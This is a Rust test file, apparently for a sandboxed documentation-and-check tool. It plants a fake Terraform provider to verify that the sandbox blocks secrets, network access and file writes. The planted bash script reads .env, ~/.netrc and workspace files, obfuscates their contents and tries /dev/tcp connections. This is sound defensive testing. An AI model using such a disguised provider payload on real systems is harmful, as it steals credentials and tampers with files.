//! A program in a provider's place that Terraform starts for a page of documentation or for a check: what it can reach.
use std::fs;
use std::time::Duration;

use crate::support::{Agent, Gateway, sandbox};
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use protocol::{Answer, Bench, BenchFile, BenchTool, ManualKind, Question, Topic, TopicRequest};
use sha2::{Digest, Sha256};
use tokio::net::TcpListener;

/// The text that no answer may show.
const CANARY: &str = "canary-7f3a";
const NAME: &str = "terraform-provider-evil_v1.0.0";
const ADDRESS: &str = "registry.terraform.io/evil/evil";

async fn runs(gateway: &mut Gateway, run_id: &str, script: &str) -> String {
    let report = gateway.run(run_id, script).await;
    assert_eq!(report.exit_code, Some(0), "{}{}", report.head, report.tail);
    report.head
}

/// A workspace with canaries, and with the program in the place of a provider that its lock file lists.
struct Planted {
    gateway: Gateway,
    agent: Agent,
    /// The machine's own network, as seen from the sandbox.
    outside: TcpListener,
    package: String,
}

impl Planted {
    async fn new() -> Self {
        let (mut gateway, agent) = sandbox().await;
        let outside = TcpListener::bind("0.0.0.0:0").await.unwrap();
        let program = program(outside.local_addr().unwrap().port());
        let platform = if cfg!(target_arch = "aarch64") { "linux_arm64" } else { "linux_amd64" };
        let package = format!("terraform/.terraform/providers/{ADDRESS}/1.0.0/{platform}");
        let lock = format!(
            "provider \"{ADDRESS}\" {{\n  version = \"1.0.0\"\n  hashes = [\"{}\"]\n}}\n",
            checksum(NAME, &program)
        );
        let plant = format!(
            "echo {CANARY} | tee notes.txt .env ~/.netrc > /tmp/plain.txt
mkdir -p {package}
echo {} | base64 --decode > {package}/{NAME}
chmod +x {package}/{NAME}
echo {} | base64 --decode > terraform/.terraform.lock.hcl
printf 'provider_installation {{\\n  dev_overrides {{ \"evil/evil\" = \"%s\" }}\\n  direct {{}}\\n}}\\n' \"$PWD\" > ~/.terraformrc",
            STANDARD.encode(&program),
            STANDARD.encode(&lock)
        );
        runs(&mut gateway, "r1", &plant).await;
        // A program that an approved command starts does reach the files, so the canaries are in place.
        let reached = runs(&mut gateway, "r2", &format!("TOKEN=x bash {package}/{NAME}")).await;
        for had in ["dbobsz-7g3b", " token", " wrote", " changed"] {
            assert!(reached.contains(had), "{had}: {reached}");
        }
        runs(&mut gateway, "r3", &format!("rm left ~/left; echo {CANARY} > notes.txt")).await;
        Self { gateway, agent, outside, package }
    }

    async fn missing(&mut self, kind: ManualKind, name: &str) -> String {
        let topic =
            Topic::try_from(TopicRequest { kind, name: name.to_owned(), folder: None }).unwrap();
        let question = Question::LookUp { topic, from: 0 };
        match self.gateway.ask(&format!("{kind:?} {name}"), question, CANARY).await {
            Answer::NoPage { reason } => reason,
            other => panic!("{name}: {other:?}"),
        }
    }

    /// Nothing connected, changed a file or left one.
    async fn left_nothing(&mut self) {
        let silent = tokio::time::timeout(Duration::ZERO, self.outside.accept()).await;
        assert!(silent.is_err(), "something connected");
        let notes = fs::read_to_string(self.agent.workspace().join("notes.txt")).unwrap();
        assert_eq!(notes, format!("{CANARY}\n"));
        let list = "ls -d left ~/left /tmp/answer-* 2>/dev/null || true";
        assert_eq!(runs(&mut self.gateway, "r4", list).await, "", "nothing is left");
    }
}

/// Collects what it can reach in a form that no mask recognizes, and reports it twice: as the title of a process, which this
/// test sees from outside, and as its output. Only a sandbox runs it.
fn program(port: u16) -> String {
    format!(
        "#!/bin/bash
taken=$(cat /home/*/workspace/notes.txt /home/*/workspace/.env /home/*/.netrc /tmp/plain.txt 2>/dev/null | tr 'a-z' 'b-za')
[ -z \"$TOKEN\" ] || taken+=' token'
for host in 127.0.0.1 10.0.2.2; do (echo x > /dev/tcp/$host/{port}) 2>/dev/null && taken+=' network'; done
for place in /home/*/workspace /home/*; do (echo x > $place/left) 2>/dev/null && taken+=' wrote'; done
(echo x >> /home/*/workspace/notes.txt) 2>/dev/null && taken+=' changed'
(exec -a \"{} [$taken]\" sleep 1)
echo \"it ran and has [$taken]\"
",
        title(port)
    )
}

fn title(port: u16) -> String {
    format!("planted-{port} has")
}

/// Waits for a process whose title begins so, and says the rest of it.
async fn titled(begins: &str) -> String {
    loop {
        let processes = fs::read_dir("/proc").unwrap().flatten();
        let titles = processes.filter_map(|process| fs::read(process.path().join("cmdline")).ok());
        let mut titles = titles.map(|title| String::from_utf8_lossy(&title).into_owned());
        if let Some(rest) = titles.find_map(|title| title.strip_prefix(begins).map(str::to_owned)) {
            return rest.split('\0').next().unwrap().to_owned();
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

/// Terraform's own checksum of a folder with one file.
fn checksum(name: &str, content: &str) -> String {
    let file = hex::encode(Sha256::digest(content));
    let all = Sha256::digest(format!("{file}  {name}\n"));
    format!("h1:{}", STANDARD.encode(all))
}

#[tokio::test]
async fn planted_code_behind_documentation_reaches_no_secret_no_network_and_no_file() {
    let mut planted = Planted::new().await;
    let reason = planted.missing(ManualKind::TerraformResource, "evil_thing").await;
    assert!(reason.contains("it ran and has []"), "{reason}");
    planted.left_nothing().await;

    // A program that was exchanged after `init` does not start, and a link is not followed.
    let package = planted.package.clone();
    let exchange = format!("echo '# more' >> {package}/{NAME}");
    runs(&mut planted.gateway, "r5", &exchange).await;
    let reason = planted.missing(ManualKind::TerraformDataSource, "evil_thing").await;
    assert!(reason.contains("checksum") && !reason.contains("it ran"), "{reason}");
    let moves = format!("mv {package} elsewhere; ln -s \"$PWD/elsewhere\" {package}");
    runs(&mut planted.gateway, "r6", &moves).await;
    let reason = planted.missing(ManualKind::TerraformResource, "evil_other").await;
    assert!(reason.contains("is a link to somewhere else"), "{reason}");
}

#[tokio::test]
async fn planted_code_behind_a_check_reaches_no_secret_no_network_and_no_file() {
    let mut planted = Planted::new().await;
    let uses = "terraform {
  required_providers {
    evil = { source = \"evil/evil\" }
  }
}

resource \"evil_thing\" \"a\" {}
";
    let bench = Bench {
        script: "true".to_owned(),
        files: vec![BenchFile { path: "terraform/main.tf".to_owned(), text: uses.to_owned() }],
        tools: vec![BenchTool {
            name: "terraform validate".to_owned(),
            places: vec!["terraform".to_owned()],
        }],
    };
    let title = title(planted.outside.local_addr().unwrap().port());
    let (answer, shown) = tokio::join!(
        planted.gateway.ask("q1", Question::Check(bench), CANARY),
        tokio::time::timeout(Duration::from_secs(60), titled(&title))
    );
    assert_eq!(shown.expect("it ran"), " []", "{answer:?}");
    let said = format!("{answer:?}");
    assert!(said.contains("providers or modules are not installed"), "{said}");
    assert!(!said.contains("it ran"), "its output is in no finding: {said}");
    planted.left_nothing().await;
}
